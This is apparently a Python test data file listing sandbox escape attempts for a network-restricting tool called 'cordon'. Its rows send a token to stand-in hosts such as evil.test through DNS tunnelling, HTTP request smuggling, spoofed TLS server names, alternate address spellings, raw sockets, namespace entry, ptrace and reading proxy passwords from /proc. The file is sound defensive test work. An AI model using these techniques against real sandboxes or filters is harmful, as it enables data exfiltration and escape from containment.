"""The attempts on the network, one row each, for tests/suite/gate-attack.

A row runs once in the open, where it must succeed, and once in a cordon, where it
must not.  It is Python after PRELUDE; TOKEN is new each time.  It has succeeded when
somebody else has seen the token (tests/attack/gate_world.py), or, with `by_status`,
when it exits with 0.

    opts    options of `cordon run`
    who     root, user or both
    alone   what nobody can do in the open is proved inside only: why
    policy  text of a policy file, for --policy
    files   `socket`: descriptor 9 is a connection to EVIL
    passer  a program outside hands out a connection to EVIL: by this socket, `@` abstract
"""
import collections
import pathlib

from gate_world import (DNS, EVIL, EVIL6, GOOD, GROUP, METADATA, NAT64, NEAR, PRIVATE,
                        SIX_TO_FOUR, TLS_PORT, UNIQUE_LOCAL)

ALLOW = "--allow-host good.test --allow-host *.wild.test"
Row = collections.namedtuple("Row", "name act opts who alone policy files passer by_status",
                             defaults=(ALLOW, "both", "", "", "", "", False))
ROWS = []

PRELUDE = """
import ctypes, os, ssl, struct, sys, time
from socket import *
setdefaulttimeout(3)
EVIL, GOOD = %r, %r
T = TOKEN.encode()
def tcp(host, port=7777, data=T, proto=0, family=AF_UNSPEC, opts=()):
    for f, t, p, _, a in getaddrinfo(host, port, family, SOCK_STREAM):
        s = socket(f, t, proto)
        for o in opts:
            s.setsockopt(*o)
        s.connect(a)
        s.sendall(data)
        return s
def v4(addr, port=7777, opts=(), kind=SOCK_STREAM, proto=0):
    s = socket(AF_INET, kind, proto)
    for o in opts:
        s.setsockopt(*o)
    s.connect((addr, port))
    s.send(T)
    return s
def end(s):
    try:
        return s.recv(4096)
    finally:
        s.close()
def udp(host, port=7777, data=T, proto=0, opts=()):
    f, t, p, _, a = getaddrinfo(host, port, 0, SOCK_DGRAM)[0]
    s = socket(f, SOCK_DGRAM, proto)
    for o in opts:
        s.setsockopt(*o)
    s.sendto(data, a)
    return s
def name(text):
    return b''.join(bytes([len(l)]) + l for l in text) + b'\\0'
def ask(labels, kind=1, extra=b'', n_extra=0):
    q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0' + struct.pack('>H', n_extra)
    return q + name(labels) + struct.pack('>HH', kind, 1) + extra
def http(text, host='good.test', port=80, pieces=None):
    data = text.replace('TOKEN', TOKEN).encode('latin-1')
    s = tcp(host, port, b'')
    for i in range(0, len(data), pieces or len(data)):
        s.sendall(data[i:i + (pieces or len(data))])
    return end(s)
def hello(sni, also=None):
    out = ssl.MemoryBIO()
    c = ssl._create_unverified_context()
    if also:
        c.set_alpn_protocols([also])
    o = c.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
def send_hello(data, host='good.test', pieces=None, port=443):
    s = tcp(host, port, b'')
    for i in range(0, len(data), pieces or len(data)):
        s.sendall(data[i:i + (pieces or len(data))])
    s.settimeout(0.5)
    return end(s)
def swap(data, old, new):
    assert old in data and len(old) == len(new)
    return data.replace(old, new)
""" % (EVIL, GOOD)


def row(name, act, **rest):
    ROWS.append(Row(name, act, **rest))


# --- addresses, in every spelling --------------------------------------------------

for what, spelled in (
        ("dotted", EVIL), ("decimal", "1572395043"), ("hexadecimal", "0x5db8d823"),
        ("octal", "0135.0270.0330.043"), ("short", "93.12113955"), ("mixed", "0x5d.184.55331"),
        ("IPv6", EVIL6), ("v4-mapped", "::ffff:" + EVIL), ("v4-mapped in hex", "::ffff:5db8:d823"),
        ("NAT64", NAT64), ("6to4", SIX_TO_FOUR), ("unique local", UNIQUE_LOCAL),
        ("metadata", METADATA), ("private", PRIVATE), ("shared", "100.64.0.5"),
        ("this machine's", NEAR[0]), ("this machine's second", NEAR[1])):
    row(f"an address: {what}", f"end(tcp({spelled!r}))")
row("an address: with a zone", "end(tcp('fe80::2%near'))")
row("an address: with the zone that there is",
    "end(tcp('fe80::2%' + (if_nameindex()[-1][1])))")
row("an address: allowed by name only", "end(tcp(GOOD))")
row("an address: another port of the wire", "end(tcp(EVIL, 61))")
row("the host's loopback: 127.0.0.1", "end(tcp('127.0.0.1'))")
row("the host's loopback: 127.1", "end(tcp('127.1'))")
row("the host's loopback: ::1", "end(tcp('::1'))")
row("the host's loopback: 0.0.0.0", "end(tcp('0.0.0.0'))")
row("the host's loopback: 0", "end(tcp('0'))")
row("the host's loopback: ::", "end(tcp('::'))")
row("the host's loopback: ::ffff:127.0.0.1", "end(tcp('::ffff:127.0.0.1'))")
row("the host's loopback: localhost", "end(tcp('localhost'))")
row("the host's loopback: by the gate's own port", "end(tcp('127.0.0.1', 61))",
    opts="--network public --deny-host x.test")
row("the host's loopback: by the gate's own port, IPv6", "end(tcp('::1', 61))",
    opts="--network public --deny-host x.test")
row("broadcast", "udp('255.255.255.255', opts=[(SOL_SOCKET, SO_BROADCAST, 1)])")
row("broadcast of the wire", "udp('93.184.216.255', opts=[(SOL_SOCKET, SO_BROADCAST, 1)])")
row("multicast", f"udp({GROUP!r})")

# --- kinds of sockets ----------------------------------------------------------------

row("MPTCP", "end(tcp(EVIL, proto=262))")
row("fast open by sendto",
    "s = socket(); s.settimeout(None); s.sendto(T, MSG_FASTOPEN, (EVIL, 7777)); end(s)")
row("fast open by connect", "end(v4(EVIL, opts=[(IPPROTO_TCP, 30, 1)]))")
row("UDP", "udp(EVIL)")
row("UDP, connected", "v4(EVIL, kind=SOCK_DGRAM)")
row("UDP over IPv6", "udp(%r)" % EVIL6)
row("QUIC", "udp(EVIL, 443, b'\\xc0\\0\\0\\0\\1\\x08' + T + bytes(1200))")
row("QUIC to an allowed name", "udp('good.test', 443, b'\\xc0\\0\\0\\0\\1\\x08' + T + bytes(1200))")
row("UDP to an allowed name", "udp('good.test')")
row("UDP-Lite", "udp(EVIL, proto=136)")
row("SCTP", "end(v4(EVIL, proto=132))")
row("DCCP", "s = socket(AF_INET, 6, 33); s.connect((EVIL, 7777)); s.send(T)")
row("an echo", "s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP); "
    "s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\1' + T, (EVIL, 0)); assert T in s.recv(200)",
    by_status=True)
row("raw: an echo", "s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)", by_status=True)
row("raw: any header", "s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)", by_status=True)
row("raw: IPv6", "s = socket(AF_INET6, SOCK_RAW, IPPROTO_TCP)", by_status=True)
row("frames", "s = socket(AF_PACKET, SOCK_RAW, htons(3))", by_status=True)
row("frames without a header", "s = socket(AF_PACKET, SOCK_DGRAM, htons(3))",
    by_status=True)
row("a virtual machine's socket", "s = socket(AF_VSOCK, SOCK_STREAM)", by_status=True)
row("XDP", "s = socket(44, SOCK_RAW)", by_status=True)
row("io_uring", "os.execv('./probe', ['probe', 'uring'])", by_status=True)

# --- options of sockets ----------------------------------------------------------------

row("bound to a device", "end(v4(EVIL, opts=[(SOL_SOCKET, SO_BINDTODEVICE, b'near')]))")
row("a transparent socket", "s = socket(); s.setsockopt(IPPROTO_IP, 19, 1)",
    by_status=True)
row("a source that is not ours",
    "s = socket(); s.setsockopt(IPPROTO_IP, 15, 1); s.bind(('93.184.216.77', 0)); "
    "s.connect((EVIL, 7777)); s.send(T); end(s)")
row("a mark", "end(v4(EVIL, opts=[(SOL_SOCKET, 36, 7)]))")
row("a source route", "end(v4(EVIL, opts=[(IPPROTO_IP, 4, b'\\x83\\x07\\x04' + "
    "inet_aton(EVIL) + b'\\0')]))", alone="routes refuse it by default")
row("a time to live", "end(v4(EVIL, opts=[(IPPROTO_IP, IP_TTL, 2)]))")
row("repaired into being", "s = socket(); s.setsockopt(IPPROTO_TCP, 19, 1)",
    by_status=True)
row("the device that a datagram is sent by", "s = socket(AF_INET, SOCK_DGRAM); "
    "s.sendmsg([T], [(IPPROTO_IP, 8, struct.pack('i4s4s', 2, bytes(4), bytes(4)))], 0, "
    "(EVIL, 7777))")

# --- descriptors of others ---------------------------------------------------------------

row("an inherited connection", "os.write(9, T)", files="socket")
row("an inherited connection by /proc", "os.write(os.open('/proc/self/fd/9', os.O_WRONLY), T)",
    files="socket", alone="sockets cannot be opened so")
for place in ("sock", "@gate-attack"):
    row("a connection passed on by " + ("a path" if place == "sock" else "an abstract name"),
        "s = socket(AF_UNIX); s.connect(%r); fds = recv_fds(s, 10, 1)[1]; os.write(fds[0], T)"
        % ("../sock" if place == "sock" else "\0gate-attack"), passer=place)
row("a connection of the supervisor",
    "p = os.pidfd_open(os.getppid()); fd = ctypes.CDLL(None).syscall(438, p, 9, 0); "
    "os.write(fd, T)",
    alone="the parent has none in the open")
row("init's descriptors", "print(os.readlink('/proc/%d/fd/0' % os.getppid()))", by_status=True)
row("init's memory", "print(open('/proc/%d/maps' % os.getppid()).read(9))", by_status=True)
row("tracing init", "import signal; l = ctypes.CDLL(None); "
    "p = os.getppid() if os.getppid() != os.getpid() else 1; "
    "assert l.ptrace(16, 1 if p <= 1 else p, 0, 0) == 0; os._exit(0)",
    by_status=True, alone="the parent waits for us")

# --- the namespace and its rules ----------------------------------------------------------

row("a route", "os.execvp('ip', ['ip', 'route', 'add', '198.51.100.0/24', 'dev', 'lo'])",
    by_status=True)
row("an address of our own",
    "os.execvp('ip', ['ip', 'addr', 'add', '198.51.100.1/32', 'dev', 'lo'])", by_status=True)
row("a device", "os.execvp('ip', ['ip', 'link', 'add', 'w0', 'type', 'veth', 'peer', 'name', "
    "'w1'])", by_status=True)
row("the loopback taken down", "os.execvp('ip', ['ip', 'link', 'set', 'lo', 'down'])",
    by_status=True, alone="it is in use in the open")
row("the kernel's rules",
    "s = socket(AF_NETLINK, SOCK_RAW, 12)\n"
    "g = lambda t, f, b, q: struct.pack('=IHHII', 20 + len(b), t, f, q, 0) + b'\\0\\0\\0\\0' + b\n"
    "r = lambda t: struct.pack('=IHHII', 20, t, 1, 1, 0) + b'\\0\\0\\x00\\x0a'\n"
    "b = r(16) + struct.pack('=IHHII', 20 + 12, 0xa00, 0x405, 2, 0) + b'\\1\\0\\0\\0' + "
    "struct.pack('=HH', 8, 1) + b'mine' + b'\\0' * 0 + b'' + b'\\4\\0\\3\\0' + r(17)\n"
    "s.send(b); e = struct.unpack('=i', s.recv(4096)[16:20])[0]; assert e == 0, e",
    by_status=True)
for path in ("net/ipv4/ip_forward", "net/ipv4/ip_unprivileged_port_start",
             "net/ipv4/conf/all/route_localnet", "net/ipv6/conf/all/forwarding",
             "net/ipv4/ip_nonlocal_bind"):
    row(f"writing /proc/sys/{path}",
        f"p = '/proc/sys/{path}'; v = open(p).read(); open(p, 'w').write(v)", by_status=True)
row("a namespace of our own", "os.execv('./probe', ['probe', 'new-net'])", by_status=True)
row("the network of another process",
    "l = ctypes.CDLL(None); fd = os.open('/proc/%d/ns/net' % os.getppid(), os.O_RDONLY); "
    "assert l.setns(fd, 0x40000000) == 0; end(tcp(EVIL))")
row("port 53 for ourselves", "s = socket(AF_INET, SOCK_DGRAM); s.bind(('127.0.0.9', 53))",
    by_status=True)
row("a low port for ourselves", "s = socket(); s.bind(('127.0.0.9', 62))", by_status=True)
row("port 61 for ourselves", "s = socket(); s.bind(('127.0.0.9', 61))", by_status=True,
    alone="a recorder has it in the open")
row("the listener shared",
    "s = socket(); s.setsockopt(SOL_SOCKET, SO_REUSEADDR, 1); "
    "s.setsockopt(SOL_SOCKET, SO_REUSEPORT, 1); s.bind(('', 61))", by_status=True,
    alone="a recorder has it in the open")
row("the address of a name for ourselves",
    "a = gethostbyname('good.test'); l = socket(); l.bind((a, 8080)); l.listen()\n"
    "c = tcp('good.test', 8080); l.settimeout(0.5); s = l.accept()[0]; assert s.recv(99)",
    by_status=True, alone="nobody can bind a far address in the open")
row("the gate's own address", "end(tcp('198.18.0.1', 61))", alone="there is none in the open")
row("the gate's own port by a far address", "end(tcp(EVIL, 61))")
row("an address that stands for nothing", "end(tcp('198.18.9.9', 80))",
    alone="there is none in the open")
row("an address of a name before it was asked for", "end(tcp('198.18.1.0', 7777))",
    alone="there is none in the open")

# --- DNS ----------------------------------------------------------------------------------

ASK = ("s = socket(AF_INET, SOCK_DGRAM); s.sendto(%s, (%r, 53)); s.settimeout(0.5); "
       "s.recv(999)")
row("a question with the token in a refused name",
    ASK % ("ask([T, b'evil', b'test'])", DNS))
row("a question with the token in an allowed name", ASK % ("ask([T, b'wild', b'test'])", DNS))
row("a question of another kind", ASK % ("ask([T, b'wild', b'test'], 16)", DNS))
row("a question with the token in its options",
    ASK % ("ask([b'good', b'test'], 1, b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + bytes([4 + len(T)]) + "
           "b'\\xfd\\xe9\\0' + bytes([len(T)]) + T, 1)", DNS))
row("a question with the token behind it", ASK % ("ask([b'good', b'test']) + T", DNS))
row("a question with the token in a NUL name",
    ASK % ("ask([T + b'\\0', b'good', b'test'])", DNS))
row("a question with line ends in its name",
    ASK % ("ask([b'x\\r\\nX: ' + T[:20], b'wild', b'test'])", DNS),
    alone="a part of the token is sent")
row("what is no question", ASK % ("T * 4", DNS), alone="nobody answers it")
row("an update", ASK % ("ask([T, b'wild', b'test'])[:2] + b'\\x28\\0' + "
                        "ask([T, b'wild', b'test'])[4:]", DNS))
row("a long question", ASK % ("ask([T, b'evil', b'test']) + bytes(5000)", DNS))
row("a question by TCP", "q = ask([T, b'evil', b'test']); end(tcp(%r, 53, "
    "struct.pack('>H', len(q)) + q))" % DNS, alone="the far side has no such port")
row("a question to an address of our choice",
    ASK % ("ask([T, b'evil', b'test'])", EVIL))
row("a question over IPv6", "s = socket(AF_INET6, SOCK_DGRAM); "
    "s.sendto(ask([T, b'evil', b'test']), (%r, 53))" % EVIL6)

# --- names ------------------------------------------------------------------------------

for what, host in (
        ("that is not allowed", "evil.test"), ("with a dot", "evil.test."),
        ("below an allowed one", "x.good.test"), ("that ends like an allowed one", "evilgood.test"),
        ("that begins like an allowed one", "good.test.evil.test"),
        ("that goes on like an allowed one", "good.tests"),
        ("that looks like an allowed one", "g\u043e\u043ed.test".encode("idna").decode()),
        ("for metadata", "metadata.wild.test"), ("for a private address", "private.wild.test"),
        ("for a shared address", "shared.wild.test"), ("for the loopback", "loop.wild.test"),
        ("for the loopback, IPv6", "loop6.wild.test"), ("for 0.0.0.0", "zero.wild.test"),
        ("for this machine", "own.wild.test"), ("for this machine's second address",
                                                "second.wild.test"),
        ("for a mapped private address", "mapped.wild.test"),
        ("for a private address by NAT64", "nat64.wild.test"),
        ("for a private address by 6to4", "six.wild.test"),
        ("for a unique local address", "local6.wild.test"),
        ("that is the same as another for a private address", "same.wild.test")):
    row("a name " + what, f"end(tcp({host!r}))")
# Where all is allowed but one: what is private stays so, and this machine is nobody's host.
PUBLIC = "--network public --deny-host x.test"
for what in ("metadata", "private", "shared", "loop", "loop6", "zero", "own", "second", "mapped",
             "nat64", "six", "local6", "same"):
    row(f"public: the name {what}.wild.test", f"end(tcp('{what}.wild.test'))", opts=PUBLIC)
for address in (METADATA, PRIVATE):
    row(f"public: the address {address}", f"end(tcp({address!r}))", opts=PUBLIC)
for address in NEAR:
    row(f"public: this machine's {address}", f"end(tcp({address!r}))", opts=PUBLIC)
row("a range of everything: this machine's", f"end(tcp({NEAR[0]!r}))",
    opts="--allow-host 0.0.0.0/0")
for what, host in (("private", "mixed.wild.test"), ("unique local", "mixed6.wild.test")):
    row(f"a name for a {what} address and another where nobody is",
        f"s = create_connection(({host!r}, 7777), 1); s.sendall(T); end(s)")
row("a name that is rebound", "end(tcp('rebind.wild.test', data=b'x')); time.sleep(5.2)\n"
    "end(tcp('rebind.wild.test'))", alone="in the open each try asks anew")
row("another port of an allowed name", "end(tcp('good.test'))", opts="--allow-host good.test:80")
row("another port of an allowed name, after the right one",
    "tcp('good.test', 80, b'').close(); end(tcp('good.test'))", opts="--allow-host good.test:80")

# --- what is inside a connection -------------------------------------------------------------

GET = "GET /TOKEN HTTP/1.1\\r\\nHost: "
for what, text in (
        ("another Host", GET + "evil.test\\r\\n\\r\\n"),
        ("no Host", "GET /TOKEN HTTP/1.1\\r\\n\\r\\n"),
        ("another absolute URI",
         "GET http://evil.test/TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"),
        ("two Hosts", "GET /TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n"),
        ("a Host with a blank before its colon",
         "GET /TOKEN HTTP/1.1\\r\\nHost : evil.test\\r\\n\\r\\n"),
        ("a folded Host", "GET /TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n evil.test\\r\\n\\r\\n"),
        ("a Host by a line feed", "GET /TOKEN HTTP/1.1\\nHost: evil.test\\n\\n"),
        ("a Host with a NUL", GET + "evil.test\\0.good.test\\r\\n\\r\\n"),
        ("a Host with another user", GET + "good.test@evil.test\\r\\n\\r\\n"),
        ("a Host by a carriage return", GET + "good.test\\rHost: evil.test\\r\\n\\r\\n"),
        ("a Host with an escape", GET + "\\x1b[2Jevil.test\\r\\n\\r\\n"),
        ("a CONNECT", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\nTOKEN"),
        ("a CONNECT to itself",
         "CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nTOKEN"),
        ("a version of its own", "GET /TOKEN HTTP/9.9\\r\\nHost: evil.test\\r\\n\\r\\n"),
        ("an old version with a Host", "GET /TOKEN HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n"),
        ("empty lines before it", "\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("both lengths", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\n"
         "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("two lengths", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\n"
         "Content-Length: 90\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("an encoding in disguise", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\n"
         "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("a second one", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n" + GET +
         "evil.test\\r\\n\\r\\n"),
        ("a second one behind a body", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\n"
         "Content-Length: 2\\r\\n\\r\\nab" + GET + "evil.test\\r\\n\\r\\n"),
        ("a second one behind chunks", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\n"
         "Transfer-Encoding: chunked\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\n\\r\\n" + GET +
         "evil.test\\r\\n\\r\\n"),
        ("no version", "GET /TOKEN\\r\\n"),
        ("an absolute URI of another user",
         "GET http://good.test@evil.test/TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"),
        ("an absolute URI with a backslash",
         "GET http://evil.test\\\\good.test/TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"),
        ("an absolute URI of another scheme",
         "GET ftp://evil.test/TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"),
        ("a Host with a percent sign", GET + "good.test%2eevil.test\\r\\n\\r\\n"),
        ("a Host with an underscore for a name",
         "GET /TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\nHo_st: evil.test\\r\\nContent_Length: 4\\r\\n\\r\\n"),
        ("a Host that Connection drops", "GET /TOKEN HTTP/1.1\\r\\nHost: good.test\\r\\n"
         "Connection: close, Host\\r\\n\\r\\n"),
        ("a wide Host", GET + "\\xef\\xbd\\x85vil.test\\r\\n\\r\\n"),
        ("a change of protocol before it", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\n"
         "Upgrade: websocket\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("a chunk's end of its own", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\n"
         "Transfer-Encoding: chunked\\r\\n\\r\\n0;a=\\nx\\r\\n\\r\\n" + GET + "evil.test\\r\\n\\r\\n"),
        ("HTTP/2 at once", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nTOKEN")):
    row("a request with " + what, f"http('{text}')")
row("a request byte by byte", f"http('{GET}evil.test\\r\\n\\r\\n', pieces=1)")
row("a request with a long head",
    "http('GET /TOKEN HTTP/1.1\\r\\n' + 'A: ' + 'b' * 90000 + "
    "'\\r\\nHost: evil.test\\r\\n\\r\\n')")
for what, prefix in (("empty lines", "\\r\\n' * 9000 + '"), ("blanks", "' + ' ' * 17000 + '"),
                     ("a line of its own", "' + 'x' * 17000 + '\\r\\n")):
    row("a request behind a great deal of " + what,
        f"http('{prefix}{GET}evil.test\\r\\n\\r\\n')")
row("a request with a long method",
    "http('A' * 17000 + ' /TOKEN HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', port=7777)")
row("a request that ends early", "s = tcp('good.test', 80, b'GET /' + T + b' HTTP/1.1\\r\\nHo'); "
    "s.shutdown(SHUT_WR); end(s)")
row("a request on another port", f"http('{GET}evil.test\\r\\n\\r\\n', port=8080)")
row("a request on the port of TLS", f"http('{GET}evil.test\\r\\n\\r\\n', port=443)")
row("a request on a port of no meaning", f"http('{GET}evil.test\\r\\n\\r\\n', port=7777)")
HELLO = "send_hello(hello(TOKEN.lower() + '.evil.test')"
row("TLS for another name", HELLO + ")")
row("TLS for another name, byte by byte", HELLO + ", pieces=1)")
row("TLS for another name on the port of HTTP", HELLO + ", port=80)")
row("TLS for another name on a port of no meaning", HELLO + ", port=7777)")
for what, alert in (("an alert", "\\x15\\x03\\1\\0\\2\\1\\x5a"),
                    ("an alert of an old version", "\\x15\\0\\n\\0\\2\\1\\x5a"),
                    ("a change of keys", "\\x14\\x03\\x03\\0\\1\\1")):
    row("TLS for another name behind " + what,
        f"send_hello(b'{alert}' + hello(TOKEN.lower() + '.evil.test'), pieces=1)")
row("TLS for another name behind the right one",
    "send_hello(hello('good.test') + hello(TOKEN.lower() + '.evil.test'))")
row("TLS for another name behind the question of PostgreSQL",
    "send_hello(b'\\0\\0\\0\\x08\\4\\xd2\\x16\\x2f' + hello(TOKEN.lower() + '.evil.test'))")
row("TLS for another name in two records",
    "h = hello(TOKEN.lower() + '.evil.test'); b = h[5:]; r = lambda p: h[:3] + "
    "struct.pack('>H', len(p)) + p; send_hello(r(b[:50]) + r(b[50:]))")
row("TLS for another name that is cut", "h = hello(TOKEN.lower() + '.evil.test'); "
    "s = tcp('good.test', 443, h[:len(h) - 3]); s.shutdown(SHUT_WR); end(s)")
row("TLS for a name with a NUL", "send_hello(swap(hello('x' + TOKEN.lower() + '.wild.test'), "
    "b'.wild.test', b'\\0wild.test'))")
row("TLS for a name with a line end", "send_hello(swap(hello('x' + TOKEN.lower() + '.wild.test'), "
    "b'.wild.test', b'\\nwild.test'))")
row("TLS for no name", "send_hello(hello(None, TOKEN))")
row("TLS in an old record",
    "send_hello(b'\\x80\\x2e\\1\\3\\1\\0\\x15\\0\\0\\0\\x10' + T + bytes(40))")

# A real server (openssl s_server) that knows the group P-384 alone: a hello with a key of
# another group makes it ask for a second one.  It reads hellos of up to 131,396 bytes.  The
# attempt has succeeded when the server accepts a hello that names another host.
SECOND_HELLO = pathlib.Path(__file__).with_name("hello.py").read_text("ascii") + """
def attack(between, size, record, piece):
    s = tcp('good.test', %d, b'')
    if between is not None:
        s.sendall(records(message('good.test', X25519)))
        assert answer(s) == 'retry'
    data = (between or b'') + records(message('evil.test', P384, size), record)
    for i in range(0, len(data), piece):
        s.sendall(data[i:i + piece])
    return answer(s) == 'accepted'
""" % TLS_PORT
for what, between in (("a hello", None), ("a second hello", b""),
                      ("a second hello behind a change of keys", b"\x14\3\3\0\1\1")):
    for size, record, piece in ((300, 16384, 16384), (300, 7, 1), (60000, 16384, 16384),
                                (100000, 16384, 1 << 20), (131142, 16384, 1 << 20),
                                (131142, 1000, 700), (131142, 16384, 7)):
        row(f"TLS to a real server, {what} for another name: {size} bytes in records of {record}, "
            f"sent by {piece}",
            f"{SECOND_HELLO}sys.exit(not attack({between}, {size}, {record}, {piece}))", by_status=True)

# --- ports and datagrams that are allowed -------------------------------------------------------

row("another port of the host", "end(tcp('host.cordon.internal', 7777))",
    opts="--host-port 7001", alone="the name is ours")
row("a port of the host by its address", "end(tcp('127.0.0.1', 7777))", opts="--host-port 7777")
row("a port of the host by another name", "end(tcp('loop.wild.test', 7777))",
    opts=ALLOW + " --host-port 7777")
row("a port of the host by UDP", "udp('host.cordon.internal', 7777)", opts="--host-port 7777",
    alone="the name is ours")
row("the host by an exposed port", "end(tcp('127.0.0.1', 7777))", opts=ALLOW + " --expose 7002")
UDP = ALLOW + " --allow-udp good.test:9999"
row("allowed datagrams: another port", "udp('good.test', 9998)", opts=UDP)
row("allowed datagrams: another host", "udp('evil.test', 9999)", opts=UDP)
row("allowed datagrams: another address", "udp(EVIL, 9999)", opts=UDP)
row("allowed datagrams: the address of the name", "udp(GOOD, 9999)", opts=UDP)
row("allowed datagrams: an answer of somebody else", "s = udp('good.test', 9999)\n"
    "for i in range(2):\n    if s.recv(999).startswith(b'spoofed'):\n        sys.exit(0)\n"
    "sys.exit(1)", opts=UDP, by_status=True)

# --- the proxy in front ---------------------------------------------------------------------

PROXY = ('[network]\nallow = ["good.test"]\nupstream_proxy = '
         '"http://${PROXY_USER}:${PROXY_WORD}@93.184.216.34:8080"\n[env]\npass = ["*"]\n')
row("the proxy's password: variables", "sys.exit('sesame' not in str(os.environ))", policy=PROXY,
    opts="", by_status=True)
row("the proxy's password: of other processes", "import glob\n"
    "def read(p):\n    try:\n        return open(p, 'rb').read()\n    except OSError:\n"
    "        return b''\n"
    "sys.exit(not any(b'sesame' in read(p) for p in glob.glob('/proc/[0-9]*/environ')))",
    policy=PROXY, opts="", by_status=True)
row("the proxy itself", "end(tcp('93.184.216.34', 8080, b'CONNECT ' + T + b'.evil.test:80 "
    "HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))", policy=PROXY, opts="")
row("another name by the proxy", "http('GET /TOKEN HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', "
    "'evil.test', 80)", policy=PROXY, opts="")
